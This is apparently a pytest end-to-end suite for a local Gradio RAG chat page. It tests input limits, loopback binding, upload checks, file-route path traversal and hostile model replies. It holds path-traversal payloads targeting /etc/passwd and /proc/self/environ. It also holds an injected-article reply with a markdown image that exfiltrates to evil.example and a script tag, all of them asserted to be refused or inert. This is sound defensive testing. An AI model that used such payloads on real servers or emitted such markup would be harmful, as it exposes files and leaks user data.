"""The page's limits, in headless Chromium and over HTTP, on the fakes:

- a 20,000-character paste is refused with the limit named (as the CLI and Python refuse it),
  never cut to 1,000 characters and asked;
- the empty-question error is gone once the next good answer arrives;
- the page binds 127.0.0.1 by default;
- uploads are capped and type-checked on the server;
- the file route serves nothing outside Gradio's temp folder.
"""
from __future__ import annotations

import os
import socket

import httpx
import pytest

from .conftest import ask

pytestmark = pytest.mark.e2e

REPLY = "Wendy Sherman led the US delegation at the Geneva talks [1]."


def test_a_20000_character_paste_is_refused_with_the_limit(open_page, fake_app):
    page, _ = open_page(fake_app(REPLY))
    page.focus("#question textarea")
    page.keyboard.insert_text("Who led the US delegation? " + "x" * (20_000 - 27))  # as a paste arrives
    assert len(page.input_value("#question textarea")) == 20_000  # not silently cut
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.body.innerText.includes('the limit is 1,000')", timeout=15_000)
    assert "20,000 characters long" in page.inner_text("body")
    assert page.locator('#chat [data-testid="user"]').count() == 0  # nothing was asked


def test_the_empty_question_error_goes_away_after_the_next_good_answer(open_page, fake_app):
    page, _ = open_page(fake_app(REPLY))
    page.fill("#question textarea", "   ")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.body.innerText.includes('the question is empty')", timeout=15_000)
    result = ask(page, "Who led the US delegation at the Geneva talks?")
    assert "Wendy Sherman" in result["answer"]
    page.wait_for_timeout(500)
    assert "the question is empty" not in page.inner_text("body")


def test_the_page_binds_loopback_by_default(fake_app):
    from rag.cli import build_parser

    args = build_parser().parse_args(["ui"])
    assert args.host == "127.0.0.1"
    url = fake_app(REPLY)  # served with serve()'s defaults
    port = int(url.rsplit(":", 1)[1])
    assert httpx.get(url + "/config", timeout=10).status_code == 200
    others = {a[4][0] for a in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:  # the address of the default route
        try:
            u.connect(("192.0.2.1", 9))
            others.add(u.getsockname()[0])
        except OSError:
            pass
    others = {ip for ip in others if not ip.startswith("127.")}
    if not others:
        pytest.skip("this machine has no address but loopback")
    for ip in others:  # the machine's other addresses: nothing listens there
        with socket.socket() as s:
            s.settimeout(2)
            assert s.connect_ex((ip, port)) != 0, f"the page answers on {ip}"


@pytest.fixture(scope="module")
def served(fake_app):
    url = fake_app(REPLY)
    with httpx.Client(base_url=url, timeout=20) as c:
        yield c


def test_uploads_are_capped_on_the_server(served):
    big = b"word " * (11 * 1024 * 1024 // 5)
    r = served.post("/gradio_api/upload", files={"files": ("big.txt", big, "text/plain")})
    assert r.status_code == 413 or "exceed" in r.text.lower(), (r.status_code, r.text[:200])


def test_upload_types_are_checked_on_the_server(fake_pipeline, tmp_path):
    """A script can post any file to the upload route; the page only reads article types, and
    checks the content too (a PNG named .txt)."""
    from ui.app import ChatPage

    page = ChatPage(fake_pipeline)
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    (tmp_path / "image.png").write_bytes(png)
    (tmp_path / "photo.txt").write_bytes(png)
    (tmp_path / "page.html").write_text("<html><body><h1>Breaking</h1><p>A story.</p></body></html>")
    report = str(page.add_files([str(tmp_path / n) for n in ("image.png", "photo.txt", "page.html")],
                                progress=lambda *a, **k: None)[0]).replace("\\", "")
    assert "image.png" in report and "page.html" in report and "not an article file" in report
    assert "photo.txt" in report and "binary" in report
    assert "Added" not in report


TRAVERSALS = [
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=%2Fetc%2Fpasswd",
    "/gradio_api/file=..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/file=..%252f..%252f..%252fetc%252fpasswd",
    "/gradio_api/file=....//....//....//etc/passwd",
    "/file=/etc/passwd",
    "/file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/file=/proc/self/environ",
]


def test_the_file_route_serves_nothing_outside_gradios_temp_folder(served, fake_pipeline):
    from rag.embedding import DEFAULT, resolve_embedder
    from rag.settings import Settings

    tmpdir = os.environ.get("GRADIO_TEMP_DIR") or os.path.join(__import__("tempfile").gettempdir(), "gradio")
    secret_paths = [str(fake_pipeline.settings.index_dir / "CURRENT"),
                    str(next(fake_pipeline.settings.index_dir.glob("gen-*/manifest.json"))),
                    os.path.join(resolve_embedder(DEFAULT)[0], "config.json"),
                    str(Settings().llm), f"{tmpdir}/../../etc/passwd", f"{tmpdir}/..%2f..%2fetc/passwd"]
    paths = TRAVERSALS + [f"/gradio_api/file={p}" for p in secret_paths]
    refused = 0
    for p in paths:
        r = served.get(p)
        assert r.status_code in (400, 403, 404), (p, r.status_code)
        assert "root:" not in r.text and '"embedder"' not in r.text
        refused += 1
    # the route works for what it is for: a file uploaded into Gradio's temp folder comes back
    up = served.post("/gradio_api/upload", files={"files": ("note.txt", b"hello from the temp folder", "text/plain")})
    assert up.status_code == 200, up.text
    back = served.get(f"/gradio_api/file={up.json()[0]}")
    assert back.status_code == 200 and back.text == "hello from the temp folder"
    print(f"\nfile route: {refused} of {len(paths)} outside paths refused; an uploaded file is served")


def test_a_hostile_model_reply_loads_nothing_from_outside(open_page, tmp_path):
    """The model repeats an injected article's markup (answer checks off, so it reaches the page
    unfiltered): it is shown as text, and Chromium's network log has no request off 127.0.0.1."""
    from rag.articles import load_paths
    from rag.indexing import load_index, update_index
    from rag.pipeline import Pipeline
    from rag.settings import Settings
    from tests.conftest import SEEDS
    from tests.fakes import HashEmbedder, ScriptedGenerator
    from tests.integration.test_page_load import start

    from .conftest import HOSTILE
    from .test_chat_page import assert_inert

    s = Settings(index_dir=tmp_path / "index", chunk_tokens=40, chunk_overlap=8, min_score=0.05)
    emb = HashEmbedder()
    update_index(s.index_dir, load_paths([SEEDS]).articles, emb, s)
    pipe = Pipeline(emb, load_index(s.index_dir, emb.name), ScriptedGenerator(HOSTILE + " [1]"), s, checks=frozenset())
    demo, url = start(pipe)
    try:
        page, watch = open_page(url.rstrip("/"))
        result = ask(page, "Who led the US delegation at the Geneva talks?")
        assert "![chart](http://evil.example/leak?q=secret)" in result["answer"]  # shown as text
        assert "<script>window.pwned=1</script>" in result["answer"]
        assert_inert(page, watch)
        print(f"\nhostile reply: {len(watch.requests)} requests, {len(watch.outside)} off 127.0.0.1")
    finally:
        demo.close()
